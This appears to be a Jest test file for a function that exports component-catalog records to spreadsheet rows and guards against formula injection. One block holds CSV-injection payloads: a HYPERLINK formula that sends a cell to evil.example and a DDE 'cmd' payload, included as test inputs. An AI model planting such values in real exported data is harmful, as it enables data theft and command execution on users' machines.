import {
  type BottomCategory,
  FIELDS,
  type Product,
  type ProductRecord,
  fieldsOfCategory,
} from '../../../../src/core/catalog';
import { CATEGORY_COLUMN, MAX_CELL_TEXT, type Table, toTable } from '../../../../src/core/table';

// Products written by hand the way the service sends them (README, Records): common attributes at the
// top, then ComplianceInfo, Specs and MediaFileUrls; a field that does not apply is absent, one that
// applies but has no value is null.

const MEDIA = (series: string, size: string, part: string) => ({
  PartNumbering: `https://www.orvane.example/media/part-numbering/${series}.pdf`,
  Dimensions: `https://www.orvane.example/media/dimensions/${size}.pdf`,
  Appearance: `https://www.orvane.example/media/appearance/${size}.jpg`,
  SpecificationsSheet: `https://www.orvane.example/media/specifications/${part}.pdf`,
  RohsDirectiveCertificateUrl: `https://www.orvane.example/media/compliance/rohs/${series}.pdf`,
  ReachDeclarationDocumentUrl: `https://www.orvane.example/media/compliance/reach/${series}.pdf`,
  ConflictMineralsReportDocumentUrl: 'https://www.orvane.example/media/compliance/conflict-minerals-report.pdf',
  StructuralDrawings: `https://www.orvane.example/media/structure/${series}.pdf`,
  ReliabilityTestData: `https://www.orvane.example/media/reliability/${series}.pdf`,
  SafetyCertificates: null,
});

const SMD: Product = {
  category: 'ceramicCapacitorsSMD',
  record: {
    Partno: 'OCA0335C1E100JA01D',
    PartnoWithoutPackageCode: 'OCA0335C1E100JA01',
    Status: 'To be discontinued',
    NewProduct: false,
    LastBuyDate: '2028-04-30',
    AlternativePartno: ['OCA0335C1H100JA01D', 'OCA0335C1E100GA01D', 'OCA0335C1H100GA01D'],
    PackageType: 'ø180mm Paper Tape',
    MinOrderQuantity: 15000,
    Application: 'Mobile Communication, Industrial Equipment',
    RecommendedApplication: 'Matching, filtering and resonant circuits of RF modules and base stations',
    ProductDetailUrl: 'https://www.orvane.example/products/OCA0335C1E100JA01D',
    SampleRequestUrl: 'https://www.orvane.example/sample-cart?partno=OCA0335C1E100JA01D',
    MSL: 'Not applicable',
    ProductName: 'High-Q Chip Multilayer Ceramic Capacitors for RF',
    Notices: 'This product is scheduled to be discontinued.',
    ProductionEndDate: '2028-11-30',
    Benefits: ['Low dissipation/HIQ', 'No DC bias Characteristics'],
    Standard: null,
    Mounting: ['Reflow soldering'],
    Caution: ['Consult Orvane before using this product in equipment whose failure could endanger life.'],
    Brand: 'Orvane',
    Series: 'OCA',
    Soldering: ['Lead-free solder', 'Sn-Pb solder'],
    FeatureText: 'Copper internal electrodes for low ESR and high Q in the GHz range.',
    ComplianceInfo: {
      AecQ200Support: false,
      Rohs: true,
      Reach: true,
      LeadFree: true,
      SvhcDocumentUrl: 'https://www.orvane.example/media/compliance/svhc/OCA.pdf',
    },
    Specs: {
      ReferenceMassText: '0.00032g',
      ReferenceMass: 0.00032,
      LengthText: '0.6mm',
      Length: 0.0006,
      WidthText: '0.3mm',
      Width: 0.0003,
      ThicknessText: '0.3mm',
      Thickness: 0.0003,
      ThicknessMaxText: '0.33mm',
      ThicknessMax: 0.00033,
      SizecodeMm: '0603',
      SizecodeInch: '0201',
      SmdType: 'Two-terminal',
      CapacitanceText: '10pF',
      Capacitance: 1e-11,
      ToleranceCapacitance: '±5%',
      RatedVoltageClass: 'DC',
      RatedVoltageText: '25Vdc',
      RatedVoltage: 25,
      TemperatureCharacteristicsCompliedStandard: 'EIA',
      TemperatureCharacteristics: 'C0G',
      MaxOperatingTemperatureText: '125°C',
      MaxOperatingTemperature: 125,
      Dimension: 'L 0.6±0.03mm × W 0.3±0.03mm × T 0.3±0.03mm',
      OperatingTemperatureRange: '-55°C to 125°C',
    },
    MediaFileUrls: MEDIA('OCA', 'OCA03', 'OCA0335C1E100JA01'),
  },
};

/** An In Production SMD part: no dates, empty lists, a 0.1 µF value that is not a round binary number. */
const SMD_IN_PRODUCTION: Product = {
  category: 'ceramicCapacitorsSMD',
  record: {
    ...SMD.record,
    Partno: 'OCM188R71H104KA01D',
    PartnoWithoutPackageCode: 'OCM188R71H104KA01',
    Status: 'In Production',
    NewProduct: true,
    LastBuyDate: null,
    ProductionEndDate: null,
    AlternativePartno: [],
    Benefits: [],
    Notices: null,
    Specs: {
      ...SMD.record.Specs,
      SizecodeMm: '1608',
      SizecodeInch: '0603',
      Capacitance: 1e-7,
      CapacitanceText: '0.1µF',
    },
  },
};

const LEAD: Product = {
  category: 'ceramicCapacitorsLead',
  record: {
    Partno: 'OLA405C1E2R2CB501A',
    PartnoWithoutPackageCode: 'OLA405C1E2R2CB501',
    Status: 'To be discontinued',
    NewProduct: false,
    LastBuyDate: '2027-01-31',
    AlternativePartno: ['OLA405C2A2R2BB501A', 'OLA405C2E2R2BB501A'],
    PackageType: 'Ammo Pack',
    MinOrderQuantity: 2000,
    Application: 'Automotive powertrain/safety equipment, Automotive infotainment/comfort equipment',
    RecommendedApplication: 'Engine control units and sensors assembled by through-hole soldering',
    ProductDetailUrl: 'https://www.orvane.example/products/OLA405C1E2R2CB501A',
    SampleRequestUrl: 'https://www.orvane.example/sample-cart?partno=OLA405C1E2R2CB501A',
    MSL: 'Not applicable',
    ProductName: 'Leaded Multilayer Ceramic Capacitors for Automotive',
    Notices: 'Qualified to AEC-Q200 for automotive use.',
    ProductionEndDate: '2027-06-30',
    Benefits: ['Anti-crack while soldering'],
    Standard: null,
    Mounting: ['Flow soldering'],
    Caution: ['Do not bend the leads closer than 2 mm to the body.'],
    Brand: 'Orvane',
    Series: 'OLA',
    Soldering: ['Lead-free solder', 'Sn-Pb solder'],
    FeatureText: 'Epoxy-dipped multilayer chips with tinned leads, tested to AEC-Q200.',
    ComplianceInfo: {
      AecQ200Support: true,
      Rohs: true,
      Reach: true,
      LeadFree: true,
      SvhcDocumentUrl: 'https://www.orvane.example/media/compliance/svhc/OLA.pdf',
    },
    Specs: {
      ReferenceMassText: '0.21g',
      ReferenceMass: 0.21,
      LengthText: '4mm',
      Length: 0.004,
      WidthText: '3.5mm',
      Width: 0.0035,
      ThicknessText: '2.5mm',
      Thickness: 0.0025,
      OuterDiameterText: null,
      OuterDiameter: null,
      LeadSpaceText: '5mm',
      LeadSpace: 0.005,
      LeadDiameterText: '0.5mm',
      LeadDiameter: 0.0005,
      CapacitanceText: '2.2pF',
      Capacitance: 2.2e-12,
      ToleranceCapacitance: '±0.25pF',
      RatedVoltageClass: 'DC',
      RatedVoltageText: '25Vdc',
      RatedVoltage: 25,
      TemperatureCharacteristicsCompliedStandard: 'EIA',
      TemperatureCharacteristics: 'C0G',
      MaxOperatingTemperatureText: '125°C',
      MaxOperatingTemperature: 125,
      Dimension: 'L 4mm max. × W 3.5mm max. × T 2.5mm max., lead spacing 5mm',
      OperatingTemperatureRange: '-55°C to 125°C',
    },
    MediaFileUrls: MEDIA('OLA', 'OLA40', 'OLA405C1E2R2CB501'),
  },
};

const INDUCTOR: Product = {
  category: 'inductors',
  record: {
    Partno: 'OIC4NGS180MG0K',
    PartnoWithoutPackageCode: 'OIC4NGS180MG0',
    Status: 'To be discontinued',
    NewProduct: false,
    LastBuyDate: '2027-07-31',
    AlternativePartno: ['OIH4NAS180MD0K', 'OIH4NGS180MD0K'],
    PackageType: 'ø330mm Embossed Tape',
    MinOrderQuantity: 4000,
    Application: 'Industrial Equipment, Consumer equipment',
    RecommendedApplication: 'SEPIC and flyback converters, common-mode filtering of DC lines',
    ProductDetailUrl: 'https://www.orvane.example/products/OIC4NGS180MG0K',
    SampleRequestUrl: 'https://www.orvane.example/sample-cart?partno=OIC4NGS180MG0K',
    MSL: '1',
    ProductName: 'Coupled Power Inductors (2 Coils in 1 Unit)',
    Notices: 'Inductance, resistance and currents are given per coil.',
    ProductionEndDate: '2027-10-31',
    Benefits: [],
    Standard: null,
    Mounting: ['Reflow soldering'],
    Caution: [
      'Consult Orvane before using this product in equipment whose failure could endanger life.',
      'The rated current is the lower of the currents based on saturation and on temperature rise.',
    ],
    Brand: 'Orvane Power Solutions',
    Series: 'OIC',
    Soldering: ['Lead-free solder', 'Sn-Pb solder'],
    MagneticShieldClass: 'Shielded',
    DcResistanceCenterValues: '0.15Ω',
    FeatureText: 'Two tightly coupled windings on one core; the values given are per coil.',
    TargetCircuitCategory: 'Power lines circuits',
    Construction: ['Wire wound type (Ferrite)', '2 coils in 1 unit'],
    ComplianceInfo: {
      AecQ200Support: false,
      Rohs: true,
      Reach: true,
      LeadFree: true,
      SvhcDocumentUrl: 'https://www.orvane.example/media/compliance/svhc/OIC.pdf',
    },
    Specs: {
      ReferenceMassText: '0.23g',
      ReferenceMass: 0.23,
      LengthText: '4mm',
      Length: 0.004,
      WidthText: '4mm',
      Width: 0.004,
      ThicknessText: '3.2mm',
      Thickness: 0.0032,
      ThicknessMaxText: '3.5mm',
      ThicknessMax: 0.0035,
      SizecodeMm: '4040',
      SizecodeInch: null,
      MaxOperatingTemperatureText: '125°C',
      MaxOperatingTemperature: 125,
      InductanceText: '18µH',
      Inductance: 0.000018,
      InductanceTolerance: '±20%',
      RatedCurrentText: '1.3A',
      RatedCurrent: 1.3,
      RatedCurrentItempText: '1.4A',
      RatedCurrentItemp: 1.4,
      RatedCurrentIsatText: '1.3A',
      RatedCurrentIsat: 1.3,
      RdcMaxText: '0.18Ω',
      RdcMax: 0.18,
      SrfMinText: null,
      SrfMin: null,
      Dimension: 'L 4±0.2mm × W 4±0.2mm × T 3.2±0.3mm',
      OperatingTemperatureRange: '-40°C to 125°C',
      OperatingTemperatureRangeIncludingSelfRise: '-40°C to 125°C',
      OperatingTemperatureRangeNotIncludingSelfRise: '-40°C to 85°C',
      QMin: null,
      QTestFrequencyText: null,
      QTestFrequency: null,
    },
    MediaFileUrls: MEDIA('OIC', 'OIC4N', 'OIC4NGS180MG0'),
  },
};

function deepFreeze<T>(value: T): T {
  if (value !== null && typeof value === 'object' && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const inner of Object.values(value)) deepFreeze(inner);
  }
  return value;
}
[SMD, SMD_IN_PRODUCTION, LEAD, INDUCTOR].forEach(deepFreeze);

function product(category: BottomCategory, record: Partial<ProductRecord> & { Partno: string }): Product {
  return deepFreeze({ category, record });
}

/** The cells of one column, by header name. */
function column(table: Table, name: string) {
  const index = table.header.indexOf(name);
  if (index < 0) throw new Error(`no column ${name} in ${table.header.join(',')}`);
  return table.rows.map((row) => row[index]);
}

/** One row as header name -> cell. */
function rowOf(table: Table, index: number) {
  return Object.fromEntries(table.header.map((name, column) => [name, table.rows[index][column]]));
}

const names = (categories: readonly BottomCategory[]) =>
  FIELDS.filter((definition) => definition.categories.some((category) => categories.includes(category))).map(
    (definition) => definition.name,
  );

describe('toTable: default columns', () => {
  test('"Category", then every field of the category, in spec order', () => {
    const table = toTable([SMD]);
    expect(table.header).toEqual([CATEGORY_COLUMN, ...fieldsOfCategory('ceramicCapacitorsSMD').map((f) => f.name)]);
    expect(table.header.slice(0, 4)).toEqual(['Category', 'Partno', 'PartnoWithoutPackageCode', 'Status']);
    expect(table.header).not.toContain('Inductance');
    expect(table.header).not.toContain('LeadSpace');
    expect(table.header).toContain('SmdType');
  });

  test('mixed categories: the union of their fields, in spec order', () => {
    const all = toTable([SMD, LEAD, INDUCTOR]);
    expect(all.header).toEqual([CATEGORY_COLUMN, ...FIELDS.map((f) => f.name)]);

    const smdAndInductors = toTable([INDUCTOR, SMD]);
    expect(smdAndInductors.header).toEqual([CATEGORY_COLUMN, ...names(['ceramicCapacitorsSMD', 'inductors'])]);
    expect(smdAndInductors.header).not.toContain('OuterDiameter');
    // Inductance (inductors only) sits after MaxOperatingTemperature and before Dimension, as in FIELDS
    const at = (name: string) => smdAndInductors.header.indexOf(name);
    expect(at('Capacitance')).toBeLessThan(at('MaxOperatingTemperature'));
    expect(at('MaxOperatingTemperature')).toBeLessThan(at('Inductance'));
    expect(at('Inductance')).toBeLessThan(at('Dimension'));
  });

  test('the column order does not depend on the order or number of the products', () => {
    const header = toTable([SMD, LEAD, INDUCTOR]).header;
    expect(toTable([INDUCTOR, LEAD, SMD, SMD_IN_PRODUCTION]).header).toEqual(header);
    expect(toTable([LEAD, INDUCTOR, INDUCTOR, SMD]).header).toEqual(header);
  });

  test("a column that does not apply to a row's category is an empty cell", () => {
    const table = toTable([SMD, LEAD, INDUCTOR]);
    expect(column(table, 'Inductance')).toEqual(['', '', 0.000018]);
    expect(column(table, 'Capacitance')).toEqual([1e-11, 2.2e-12, '']);
    expect(column(table, 'SmdType')).toEqual(["'Two-terminal", '', '']);
    expect(column(table, 'LeadSpace')).toEqual(['', 0.005, '']);
    expect(column(table, 'SizecodeInch')).toEqual(["'0201", '', '']); // the inductor's is null
    expect(column(table, 'Construction')).toEqual(['', '', "'Wire wound type (Ferrite), 2 coils in 1 unit"]);
    for (const row of table.rows) expect(row).toHaveLength(table.header.length);
  });

  test('a value the record carries for a field that does not apply to its category is not shown', () => {
    const odd = product('ceramicCapacitorsLead', {
      ...LEAD.record,
      Construction: ['Multilayer'],
      Specs: { ...LEAD.record.Specs, Inductance: 1e-6, SmdType: 'Two-terminal' },
    });
    const table = toTable([odd, INDUCTOR], { fields: ['Partno', 'Inductance', 'SmdType', 'Construction'] });
    expect(table.rows).toEqual([
      ["'OLA405C1E2R2CB501A", '', '', ''],
      ["'OIC4NGS180MG0K", 0.000018, '', "'Wire wound type (Ferrite), 2 coils in 1 unit"],
    ]);
  });

  test('no products: only the Category column and no rows', () => {
    expect(toTable([])).toEqual({ header: ['Category'], rows: [] });
  });
});

describe('toTable: cell values', () => {
  const table = toTable([SMD, SMD_IN_PRODUCTION, LEAD, INDUCTOR]);

  test('an SMD capacitor row', () => {
    const row = rowOf(table, 0);
    expect(row).toMatchObject({
      Category: "'ceramicCapacitorsSMD",
      Partno: "'OCA0335C1E100JA01D",
      Status: "'To be discontinued",
      NewProduct: false,
      LastBuyDate: '2028-04-30',
      ProductionEndDate: "'2028-11-30",
      AlternativePartno: "'OCA0335C1H100JA01D, OCA0335C1E100GA01D, OCA0335C1H100GA01D",
      MinOrderQuantity: 15000,
      Application: "'Mobile Communication, Industrial Equipment",
      Standard: '',
      AecQ200Support: false,
      Rohs: true,
      ReferenceMass: 0.00032,
      Length: 0.0006,
      SizecodeMm: "'0603",
      SizecodeInch: "'0201",
      Capacitance: 1e-11,
      CapacitanceText: "'10pF",
      RatedVoltage: 25,
      MaxOperatingTemperature: 125,
      OperatingTemperatureRange: "'-55°C to 125°C",
      SafetyCertificates: '',
      SpecificationsSheet: "'https://www.orvane.example/media/specifications/OCA0335C1E100JA01.pdf",
    });
  });

  test('nulls and empty lists are empty cells; numbers are exactly as received', () => {
    const row = rowOf(table, 1);
    expect(row).toMatchObject({
      NewProduct: true,
      LastBuyDate: '',
      ProductionEndDate: '',
      AlternativePartno: '',
      Benefits: '',
      Notices: '',
      Capacitance: 1e-7,
      SizecodeInch: "'0603",
      SizecodeMm: "'1608",
    });
  });

  test('a leaded capacitor row', () => {
    expect(rowOf(table, 2)).toMatchObject({
      Category: "'ceramicCapacitorsLead",
      AecQ200Support: true,
      OuterDiameter: '',
      OuterDiameterText: '',
      LeadSpace: 0.005,
      LeadDiameter: 0.0005,
      Capacitance: 2.2e-12,
      ToleranceCapacitance: "'±0.25pF",
      ThicknessMax: '', // SMD parts only
      SmdType: '',
    });
  });

  test('an inductor row', () => {
    expect(rowOf(table, 3)).toMatchObject({
      Category: "'inductors",
      MSL: "'1",
      Benefits: '',
      MagneticShieldClass: "'Shielded",
      Inductance: 0.000018,
      RatedCurrentIsat: 1.3,
      RdcMax: 0.18,
      SrfMin: '',
      QMin: '',
      OperatingTemperatureRangeNotIncludingSelfRise: "'-40°C to 85°C",
      Capacitance: '',
      TemperatureCharacteristics: '',
    });
  });

  test('every cell is a string, a finite number or a boolean', () => {
    for (const row of table.rows) {
      for (const cell of row) {
        expect(['string', 'number', 'boolean']).toContain(typeof cell);
        if (typeof cell === 'number') expect(Number.isFinite(cell)).toBe(true);
      }
    }
  });

  test("textProtection 'none' gives the text as received", () => {
    const plain = toTable([SMD, INDUCTOR], { textProtection: 'none' });
    expect(rowOf(plain, 0)).toMatchObject({
      Category: 'ceramicCapacitorsSMD',
      Partno: 'OCA0335C1E100JA01D',
      SizecodeInch: '0201',
      OperatingTemperatureRange: '-55°C to 125°C',
      ProductionEndDate: '2028-11-30',
      LastBuyDate: '2028-04-30',
      Capacitance: 1e-11,
      Rohs: true,
    });
    expect(rowOf(plain, 1)).toMatchObject({ Category: 'inductors', MSL: '1', SizecodeInch: '' });
  });

  test('records missing or nulling a nested object give empty cells, not errors', () => {
    const bare = product('inductors', { Partno: 'OIX0001', Specs: null as never });
    const rows = toTable([bare], { fields: ['Partno', 'Inductance', 'Rohs', 'Appearance', 'Status'] }).rows;
    expect(rows).toEqual([["'OIX0001", '', '', '', '']]);
  });
});

describe('toTable: service text is data', () => {
  const hostile = product('ceramicCapacitorsSMD', {
    ...SMD.record,
    Partno: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    Notices: "@SUM(1+1)*cmd|' /C calc'!A0",
    Series: '+OCA',
    Standard: 'TRUE',
    MSL: '1E3',
    Application: '\t=1+1',
    Benefits: ['-1', '=2'],
    LastBuyDate: '=TODAY()',
    Specs: { ...SMD.record.Specs, SizecodeInch: '0402', Capacitance: '=1/0', RatedVoltage: { value: 25 } },
  });

  test("no text cell can start a formula under 'apostrophe'", () => {
    const table = toTable([hostile]);
    for (const cell of table.rows[0]) {
      if (typeof cell === 'string' && cell !== '') {
        expect(cell.startsWith("'") || /^\d{4}-\d{2}-\d{2}$/.test(cell)).toBe(true);
      }
    }
    expect(rowOf(table, 0)).toMatchObject({
      Partno: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      Notices: "'@SUM(1+1)*cmd|' /C calc'!A0",
      Series: "'+OCA",
      Standard: "'TRUE",
      MSL: "'1E3",
      Application: "'\t=1+1",
      Benefits: "'-1, =2",
      LastBuyDate: "'=TODAY()",
      SizecodeInch: "'0402",
      Capacitance: "'=1/0",
      RatedVoltage: `'{"value":25}`,
    });
  });

  test("under 'none' the same text comes back untouched", () => {
    expect(rowOf(toTable([hostile], { textProtection: 'none' }), 0)).toMatchObject({
      Partno: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      Benefits: '-1, =2',
      Capacitance: '=1/0',
    });
  });

  test('toTable leaves the products as they were (they may be frozen and shared)', () => {
    const before = JSON.stringify([SMD, hostile]);
    toTable([SMD, hostile]);
    toTable([SMD, hostile], { fields: ['Notices', 'Category'] });
    expect(JSON.stringify([SMD, hostile])).toBe(before);
  });

  test("a 40,000-character text is cut to Excel's limit without splitting the emoji at the cut", () => {
    const long = 'x'.repeat(MAX_CELL_TEXT - 3) + '🔥' + 'y'.repeat(40_000 - MAX_CELL_TEXT + 1);
    expect(long).toHaveLength(40_000);
    const big = product('inductors', { ...INDUCTOR.record, FeatureText: long });
    const [protectedCell] = toTable([big], { fields: ['FeatureText'] }).rows[0] as string[];
    expect(protectedCell).toBe(`'${'x'.repeat(MAX_CELL_TEXT - 3)}…`);
    const [plainCell] = toTable([big], { fields: ['FeatureText'], textProtection: 'none' }).rows[0] as string[];
    expect(plainCell).toBe(`${'x'.repeat(MAX_CELL_TEXT - 3)}🔥…`);
    expect(plainCell).toHaveLength(MAX_CELL_TEXT);
  });
});

describe('toTable: chosen fields', () => {
  test("only the chosen fields, in the caller's order", () => {
    const table = toTable([INDUCTOR, SMD], { fields: ['Capacitance', 'Partno', 'Inductance', 'LastBuyDate'] });
    expect(table.header).toEqual(['Capacitance', 'Partno', 'Inductance', 'LastBuyDate']);
    expect(table.rows).toEqual([
      ['', "'OIC4NGS180MG0K", 0.000018, '2027-07-31'],
      [1e-11, "'OCA0335C1E100JA01D", '', '2028-04-30'],
    ]);
  });

  test('"Category" may be named, anywhere', () => {
    const table = toTable([LEAD, INDUCTOR], { fields: ['Partno', 'Category'], textProtection: 'none' });
    expect(table).toEqual({
      header: ['Partno', 'Category'],
      rows: [
        ['OLA405C1E2R2CB501A', 'ceramicCapacitorsLead'],
        ['OIC4NGS180MG0K', 'inductors'],
      ],
    });
  });

  test('without "Category" among them there is no Category column', () => {
    expect(toTable([SMD], { fields: ['Status'] }).header).toEqual(['Status']);
  });

  test('a field named twice is given twice', () => {
    expect(toTable([SMD], { fields: ['Rohs', 'Rohs'] })).toEqual({ header: ['Rohs', 'Rohs'], rows: [[true, true]] });
  });

  test('no fields: rows with no cells, one per product', () => {
    expect(toTable([SMD, LEAD], { fields: [] })).toEqual({ header: [], rows: [[], []] });
  });

  test('an unknown field name throws an Error naming it, even with no products', () => {
    expect(() => toTable([SMD], { fields: ['Partno', 'Capacitence'] })).toThrow(/"Capacitence"/);
    expect(() => toTable([], { fields: ['capacitance'] })).toThrow(/"capacitance"/); // exact names only
    expect(() => toTable([], { fields: ['ComplianceInfo'] })).toThrow(Error);
  });
});
